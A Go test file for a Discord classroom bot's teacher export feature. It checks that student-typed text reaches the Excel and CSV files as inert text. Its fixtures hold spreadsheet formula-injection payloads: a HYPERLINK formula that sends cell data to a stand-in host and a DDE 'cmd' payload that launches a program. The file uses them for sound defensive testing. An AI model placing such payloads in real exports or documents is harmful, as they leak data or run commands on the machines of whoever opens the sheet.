package discord_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"verkoopcoach/internal/flow"
	"verkoopcoach/internal/localdiscord"
	"verkoopcoach/internal/localdiscord/actors"
)

// hostile is what a sheet could take for something to run, each for one field.
var hostile = actors.Values{
	"naam": `=HYPERLINK("http://voorbeeld.nl/?"&A1;"Klik hier")`, "aanbod": "+1+1\n@SUM(1)", "klanttype": "consument", "prijs": "\t=1+1",
}

// sheets opens the workbook that came with the message.
func (s *school) sheets(m *localdiscord.Message) *excelize.File {
	s.t.Helper()
	book, err := excelize.OpenReader(strings.NewReader(s.attached(m)))
	if err != nil {
		s.t.Fatal(err)
	}
	s.t.Cleanup(func() { _ = book.Close() })
	return book
}

// cells returns all that stands in the sheet, and fails where any of it is a formula.
func (s *school) cells(book *excelize.File, sheet string) [][]string {
	s.t.Helper()
	rows, err := book.GetRows(sheet)
	if err != nil {
		s.t.Fatal(err)
	}
	for y, row := range rows {
		for x := range row {
			at, err := excelize.CoordinatesToCellName(x+1, y+1)
			if err != nil {
				s.t.Fatal(err)
			}
			if f, err := book.GetCellFormula(sheet, at); f != "" || err != nil {
				s.t.Errorf("%s of %s is the formula %q: %v", at, sheet, f, err)
			}
		}
	}
	return rows
}

// csv reads the file of that name, as strictly as the standard library does.
func (s *school) csv(m *localdiscord.Message, name string) [][]string {
	s.t.Helper()
	for _, a := range m.Attachments {
		if a.Filename != name {
			continue
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(s.discord.File(a.ID), []byte("\uFEFF"))))
		r.Comma = ';'
		all, err := r.ReadAll()
		if err != nil {
			s.t.Fatal(err)
		}
		return all
	}
	s.t.Fatalf("no %s among %q", name, fileNames(m))
	return nil
}

func holds(rows [][]string, words ...string) bool {
	return slices.ContainsFunc(rows, func(row []string) bool {
		return !slices.ContainsFunc(words, func(w string) bool { return !slices.Contains(row, w) })
	})
}

// What students type reaches a teacher's sheet as text, whatever it looks like.
func TestExportHoldsTextAlone(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	s.anna.SetNick("=1+2")
	anna, docent := s.in(s.anna, s.tentas), s.teachersRoom()
	anna.Slash("start", "naam", `=cmd|' /C calc'!A1`)
	anna.Submits(anna.Opens(anna.Sees("Beantwoorden"), "Beantwoorden"), hostile)
	got := docent.Slash("docent export", "vorm", "Excel en CSV")
	if !got.Ephemeral() {
		t.Error("the whole channel sees it")
	}
	want := []string{"klas-2026-03-02.xlsx", "klas-2026-03-02-overzicht.csv", "klas-2026-03-02-antwoorden.csv", "klas-2026-03-02-opmerkingen.csv", "klas-2026-03-02-bijdragen.csv", "klas-2026-03-02-offertes.csv"}
	if names := fileNames(got); !slices.Equal(names, want) {
		t.Fatalf("files %q", names)
	}
	book := s.sheets(got)
	answers := s.cells(book, "Antwoorden")
	for _, field := range []string{"naam", "aanbod"} {
		if !holds(answers, hostile[field], `=cmd|' /C calc'!A1`, "=1+2") {
			t.Errorf("%q does not stand in the workbook: %q", hostile[field], answers)
		}
	}
	for _, sheet := range []string{"Overzicht", "Bijdragen", "Offertes"} {
		s.cells(book, sheet)
	}
	list := s.csv(got, want[2])
	for _, text := range []string{"'" + hostile["naam"], "'+1+1\n@SUM(1)", `'=cmd|' /C calc'!A1`, "'=1+2"} {
		if !holds(list, text) {
			t.Errorf("%q does not stand in the CSV: %q", text, list)
		}
	}
	for _, name := range want[1:] {
		for _, row := range s.csv(got, name) {
			for _, field := range row {
				if field != "" && strings.ContainsAny(field[:1], "=+@\t\r") {
					t.Errorf("%s has a field %q", name, field)
				}
			}
		}
	}
}

// The sheets name who is who, in a class that has a bit of everything.
func TestExportOfAClass(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	anna, bram, docent := s.in(s.anna, s.tentas), s.in(s.bram, s.fitzip), s.teachersRoom()
	if said := docent.Slash("docent export").Text(); !strings.Contains(said, "nog geen team begonnen") {
		t.Errorf("%s", said)
	}
	startTeam(anna)
	d := loadDossier(t, "goed-b2c.json", flow.Dutch)
	fills(anna, d, "onderneming")
	fills(anna, d, "swot")
	bram.Slash("start", "naam", "Team Fitzip")
	fills(bram, d, "onderneming")
	s.anna.SetNick("Anna van Dijk")
	s.bram.Leave()

	got := docent.Slash("docent export")
	if names := fileNames(got); !slices.Equal(names, []string{"klas-2026-03-02.xlsx"}) {
		t.Errorf("files %q", names)
	}
	for _, want := range []string{"2 teams", "Van één student vond ik geen naam", "Bewaar het zorgvuldig"} {
		if !strings.Contains(got.Text(), want) {
			t.Errorf("no %q in %s", want, got.Text())
		}
	}
	book := s.sheets(got)
	if rows := s.cells(book, "Overzicht"); len(rows) != 3 || rows[1][0] != "Team Fitzip" || rows[2][0] != "Team Tentas" {
		t.Errorf("the overview: %q", rows)
	}
	people := s.cells(book, "Bijdragen")
	if !holds(people, "Team Tentas", "Anna van Dijk") || !holds(people, "Team Fitzip", "lid 1") {
		t.Errorf("%q", people)
	}
	if props, err := book.GetDocProps(); err != nil || props.Title != "Klas 2B" {
		t.Errorf("the workbook is called %q: %v", props.Title, err)
	}
	s.discord.ResetRecord() // Discord says that Bram is not there
	button := docent.Clicks(docent.Slash("status"), "Excel")
	if names := fileNames(button); !slices.Equal(names, []string{"klas-2026-03-02.xlsx"}) || !button.Ephemeral() {
		t.Errorf("the button gives %q", names)
	}
	s.discord.ResetRecord()
}

// The overview says in words what asks for attention, by when a phase is due and
// what the teacher made of it.
func TestExportTellsTheTeachersSide(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	docent := s.teachersRoom()
	s.withClass(func(c *classroom) { c.fill(10, s.docent) })
	rows := s.cells(s.sheets(docent.Slash("docent export")), "Overzicht")
	if len(rows) != 11 {
		t.Fatalf("%d rows", len(rows))
	}
	for team, want := range map[string][]string{
		"Team 01": {"niet begonnen, al 20 dagen; over de deadline: fase 1"},
		"Team 03": {"wacht op docent"},
		"Team 04": {"akkoord"},
		"Team 06": {"teruggegeven en nog niet aangepast: fase 0", "terug: De prijs klopt nog niet."},
		"Team 07": {"aangepast na terug: De prijs klopt nog niet."},
		"Team 10": {"akkoord; op slot", "20-03-2026 09:00"},
	} {
		i := slices.IndexFunc(rows, func(row []string) bool { return row[0] == team })
		said := strings.Join(rows[max(i, 0)], " | ")
		for _, w := range want {
			if !strings.Contains(said, w) {
				t.Errorf("%s: no %q in %s", team, w, said)
			}
		}
	}
}

// What teacher and team said to one another stands together, with who said it.
func TestExportHoldsTheFeedback(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	anna, docent := s.in(s.anna, s.tentas), s.teachersRoom()
	startTeam(anna)
	fills(anna, loadDossier(t, "goed-b2c.json", flow.Dutch), "onderneming")
	docent.Submits(docent.SlashOpens("docent opmerking", "team", s.tentas.ID(), "stap", "onderneming"), actors.Values{"feedback": "=Waarom 60 euro?"})
	docent.Submits(docent.SlashOpens("docent opmerking", "team", s.tentas.ID(), "fase", "1 Vaststellen klanten en werving"), actors.Values{"feedback": "Begin op tijd."})
	told := anna.Sees("=Waarom 60 euro?")
	anna.Submits(anna.Opens(told, "Reageer op je docent"), actors.Values{"reactie": "+Een nieuwe kost 90."})
	got := docent.Slash("docent export", "vorm", "Excel en CSV")
	s.cells(s.sheets(got), "Opmerkingen")
	rows := s.csv(got, "klas-2026-03-02-opmerkingen.csv")
	var said [][]string
	for _, row := range rows[1:] {
		if len(row[6]) != len("2026-03-02 09:00") {
			t.Errorf("said at %q", row[6])
		}
		said = append(said, slices.Delete(row, 6, 7))
	}
	want := [][]string{
		{"Team Tentas", "0 Uitgangspunten", "De onderneming", "opmerking", "docent", "Mevrouw De Wit", "'=Waarom 60 euro?"},
		{"Team Tentas", "0 Uitgangspunten", "De onderneming", "reactie", "team", "Anna", "'+Een nieuwe kost 90."},
		{"Team Tentas", "1 Vaststellen klanten en werving", "", "opmerking", "docent", "Mevrouw De Wit", "Begin op tijd."},
	}
	if d := cmp.Diff(want, said); d != "" {
		t.Error(d)
	}
}

func TestExportInEnglish(t *testing.T) {
	t.Parallel()
	s := newSchool(t)
	docent := s.teachersRoom()
	s.docent.SetLocale("en-GB")
	anna := s.in(s.anna, s.tentas)
	startTeam(anna)
	fills(anna, loadDossier(t, "goed-b2c.json", flow.Dutch), "onderneming")
	drafts(anna, "2 tenten 45,00 21%")
	got := docent.Slash("teacher export", "form", "Excel and CSV")
	if names := fileNames(got); !slices.Equal(names, []string{
		"class-2026-03-02.xlsx", "class-2026-03-02-overview.csv", "class-2026-03-02-answers.csv", "class-2026-03-02-remarks.csv", "class-2026-03-02-contributions.csv", "class-2026-03-02-quotations.csv",
	}) {
		t.Errorf("files %q", names)
	}
	if !strings.Contains(got.Text(), "one team") {
		t.Errorf("%s", got.Text())
	}
	if rows := s.csv(got, "class-2026-03-02-quotations.csv"); len(rows) != 2 || !holds(rows, "Team Tentas", "OFF-2026-0001", "draft") {
		t.Errorf("the quotations: %q", rows)
	}
	answers := s.csv(got, "class-2026-03-02-answers.csv") // of a Dutch team, for who reads English
	if !holds(answers, "Team Tentas", "0 Starting point", "The company") || holds(answers, "De onderneming") {
		t.Errorf("the answers: %q", answers)
	}
}
